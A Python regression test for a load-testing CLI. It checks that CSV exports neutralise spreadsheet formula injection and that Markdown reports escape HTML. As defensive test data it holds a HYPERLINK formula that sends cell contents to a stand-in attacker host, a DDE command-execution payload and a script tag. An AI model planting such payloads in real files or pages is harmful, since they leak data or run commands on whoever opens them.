"""Issue 20, case 7: text a spreadsheet would run (``=`` ``+`` ``-`` ``@`` tab CR at a cell's start) is
neutralised in every CSV ramp writes (``ramp report --format csv``, ``--save-requests-detail``), numbers
stay numbers, and the Markdown report writes raw HTML as entities (the HTML report already escapes)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from hostile_servers import finishing_with, serving

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PROFILE = "[[bucket]]\ninput = 8\noutput = 2\n"


def ramp(*args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, OPENAI_API_KEY="")
    return subprocess.run(
        [sys.executable, "-m", "loadgen.cli", *args], capture_output=True, text=True, timeout=90, env=env
    )


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula lead, and not a plain number."""
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_exports_neutralise_formulas_and_markdown_escapes_html(tmp_path: Path) -> None:
    server = serving(completions=finishing_with("@SUM(1+1)*cmd|' /C calc'!A0"))
    profile = tmp_path / "tiny.toml"
    profile.write_text(PROFILE)
    out = tmp_path / "run.jsonl"
    tags = [
        "--tag",
        f"note={FORMULA}",
        "--tag",
        "cmd=+1+2",
        "--tag",
        "minus=-2+3+cmd",
        "--tag",
        "offset=-1.5",
    ]
    tags += ["--tag", "html=<script>alert(1)</script>"]
    args = ["--steps", "1", "--step-seconds", "1", "--warmup", "0", "--no-metrics", "--profile", str(profile)]
    try:
        proc = ramp(
            "run", server.url, "--headless", *args, *tags, "--save-requests-detail", "--out", str(out)
        )
    finally:
        server.stop()
    assert proc.returncode == 0, proc.stderr
    report = ramp("report", str(out), "--format", "csv")
    assert report.returncode == 0, report.stderr
    rows = list(csv.reader(io.StringIO(report.stdout)))
    cells = {name: value for name, value in zip(rows[0], rows[1], strict=True)}
    assert cells["tag_note"] == "'" + FORMULA and cells["tag_cmd"] == "'+1+2", cells
    assert cells["tag_minus"] == "'-2+3+cmd" and cells["tag_offset"] == "-1.5"  # a number stays a number
    assert not formulas(rows), formulas(rows)
    detail = list(csv.reader((tmp_path / "run.requests.csv").open()))
    column = detail[0].index("finish_reason")
    reasons = {row[column] for row in detail[1:]}
    assert reasons == {"'@SUM(1+1)*cmd|' /C calc'!A0"}, reasons
    assert not formulas(detail), formulas(detail)[:3]
    md = ramp("report", str(out), "--format", "md")
    assert md.returncode == 0, md.stderr
    assert "<script>" not in md.stdout and "&lt;script&gt;" in md.stdout, md.stdout
